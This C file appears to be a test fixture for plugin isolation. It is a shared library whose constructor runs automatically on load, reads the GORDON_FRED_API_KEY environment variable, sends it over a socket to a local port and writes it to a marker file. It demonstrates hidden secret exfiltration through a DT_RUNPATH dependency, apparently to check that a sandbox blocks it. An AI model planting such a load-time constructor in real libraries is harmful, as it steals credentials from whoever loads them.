/* Not a plugin: the library iso_runpath.so needs (DT_NEEDED), found through
 * its DT_RUNPATH $ORIGIN. Its constructor runs before any plugin code, as
 * the library loads: it reads iso_dep.conf beside itself ("PORT MARKER"),
 * connects to 127.0.0.1:PORT sending the GORDON_FRED_API_KEY it sees, and
 * creates MARKER. It links libc like any library; nothing lints it. */
#include <arpa/inet.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int iso_dep_value(void);

int iso_dep_value(void) { return 42; }

__attribute__((constructor)) static void iso_dep_grab(void)
{
    Dl_info info;
    char conf[4096], marker[4096] = "", msg[512];
    int port = 0;
    if (!dladdr((void *)iso_dep_value, &info) || !info.dli_fname)
        return;
    snprintf(conf, sizeof conf, "%s", info.dli_fname);
    char *slash = strrchr(conf, '/');
    snprintf(slash ? slash + 1 : conf, sizeof conf - (size_t)(slash ? slash + 1 - conf : 0), "iso_dep.conf");
    FILE *f = fopen(conf, "r");
    if (!f)
        return;
    if (fscanf(f, "%d %4095s", &port, marker) != 2)
        port = 0;
    fclose(f);
    const char *secret = getenv("GORDON_FRED_API_KEY");
    snprintf(msg, sizeof msg, "iso_dep constructor secret=%s\n", secret ? secret : "(none)");
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)port);
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&sa, sizeof sa) == 0 && write(fd, msg, strlen(msg)) < 0)
        perror("iso_dep: write");
    if (fd >= 0)
        close(fd);
    int m = marker[0] ? open(marker, O_CREAT | O_WRONLY | O_TRUNC, 0644) : -1;
    if (m >= 0) {
        if (write(m, msg, strlen(msg)) < 0)
            perror("iso_dep: write");
        close(m);
    }
}
